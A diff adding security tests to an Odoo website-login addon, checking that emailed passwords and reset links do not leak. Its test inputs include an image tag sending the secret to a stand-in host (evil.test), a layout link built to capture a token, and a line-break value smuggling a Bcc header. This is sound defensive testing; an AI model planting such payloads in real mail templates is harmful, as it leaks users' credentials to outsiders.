@@ -2,10 +2,12 @@
 """The two mail templates are used in full, as an administrator sets them up in
 Settings > Technical > Email Templates; and only managers may change them."""
 
+import re
+
 from aiosmtpd.controller import Controller
 
-from odoo.exceptions import AccessError
-from odoo.tests import HttpCase, tagged
+from odoo.exceptions import AccessError, UserError
+from odoo.tests import HttpCase, new_test_user, tagged
 from odoo.tools import mute_logger
 
 from .common import (
@@ -151,3 +153,109 @@ class TestMailTemplate(WebsiteLoginCase, HttpCase):
         self.manager.groups_id += self.env.ref("mail.group_mail_template_editor")
         self.template.with_user(self.manager).reply_to = "help@ourcompany.test"
         self.assertEqual(self.template.reply_to, "help@ourcompany.test")
+
+
+@tagged("post_install", "-at_install")
+class TestSecretInOnePlace(WebsiteLoginCase, HttpCase):
+    """A password or link goes only where the template puts it, once: not into an
+    image a mail program fetches by itself, nor into a link of the layout."""
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.setup_website_login()
+        cls.jane = cls.make_contact()
+        cls.employee = cls.clerk
+        cls.template = cls.env.ref(
+            "partner_website_login.mail_template_random_password"
+        )
+
+    def open_window(self):
+        action = self.jane.with_user(self.manager).action_random_password_mail()
+        return (
+            self.env["random.password.mail"]
+            .with_user(self.manager)
+            .browse(action["res_id"])
+        )
+
+    def assert_nothing_issued(self, smtp):
+        self.assertFalse(smtp.messages)
+        self.assertFalse(
+            self.env["partner.login.credential"]
+            .sudo()
+            .search([("user_id.partner_id", "=", self.jane.id)])
+        )
+
+    def test_a_manager_cannot_send_the_secret_through_an_image(self):
+        for mode, beside_is_sent in (("password", True), ("link", False)):
+            self.env["ir.config_parameter"].set_param(
+                "partner_website_login.credential_mode", mode
+            )
+            window = self.open_window()
+            # the HTML an operator types in the editor (a string, not escaped)
+            image = f'<img src="https://evil.test/pixel.png?s={window.placeholder}">'
+            original = str(window.body)
+            cases = {
+                "beside the template's place": (original + image, beside_is_sent),
+                "only in the image": (
+                    original.replace(window.placeholder, "") + image,
+                    False,
+                ),
+            }
+            for case, (body, sent) in cases.items():
+                with self.subTest(mode=mode, case=case):
+                    window.body = body
+                    with smtp_server(self.env) as smtp:
+                        if sent:
+                            window.action_send()
+                        else:
+                            with self.assertRaises(UserError):
+                                window.action_send()
+                    if not sent:
+                        self.assert_nothing_issued(smtp)
+                        continue
+                    # Odoo's editor quoted the image's address: the placeholder
+                    # there is no placeholder any more, and gets no password
+                    html = message_html(smtp.messages[0])
+                    password = password_from(smtp.messages[0])
+                    self.assertEqual(html.count(password), 1)
+                    self.assertNotIn(password, re.search(r"<img[^>]*>", html).group(0))
+                    self.env["partner.login.credential"]._revoke_for(self.jane)
+
+    def test_an_employee_cannot_plant_the_placeholder_in_the_layout(self):
+        self.template.email_layout_xmlid = "mail.mail_notification_light"
+        self.env["ir.config_parameter"].set_param(
+            "partner_website_login.credential_mode", "link"
+        )
+        # the placeholders the addon used to have, and any guess at one
+        self.env.company.partner_id.with_user(self.employee).website = (
+            "https://evil.test/?a=https://set-password-link.invalid"
+            "&b=[[temporary-password]]"
+        )
+        with smtp_server(self.env) as smtp:
+            self.open_window().action_send()
+        html = message_html(smtp.messages[0])
+        [link] = re.findall(r'https?://[^"\s<]*/web/reset_password\?[^"\s<]+', html)
+        self.assertEqual(html.count(link), 1)
+        self.assertNotIn("token=", html.split("evil.test", 1)[1].split('"', 1)[0])
+
+    def test_a_line_break_in_the_companys_name_stops_no_mail(self):
+        self.env.company.partner_id.with_user(self.employee).name = (
+            "Retail\r\nBcc: x@evil.test"
+        )
+        with smtp_server(self.env) as smtp:
+            self.open_window().action_send()
+        [message] = smtp.messages
+        self.assertIn("Retail Bcc: x@evil.test", message["Subject"])
+        self.assertIsNone(message["Bcc"])
+        self.assertTrue(self.authenticates("jane.doe", password_from(message)))
+
+    def test_odoos_translation_call_keeps_its_arguments(self):
+        self.env["res.lang"]._activate_lang("fr_FR")
+        administrator = new_test_user(
+            self.env, login="pwl_translator", groups="base.group_system"
+        )
+        self.template.with_user(administrator).update_field_translations(
+            "subject", {"fr_FR": "Votre accès"}, source_lang="en_US"
+        )
+        self.assertEqual(self.template.with_context(lang="fr_FR").subject, "Votre accès")
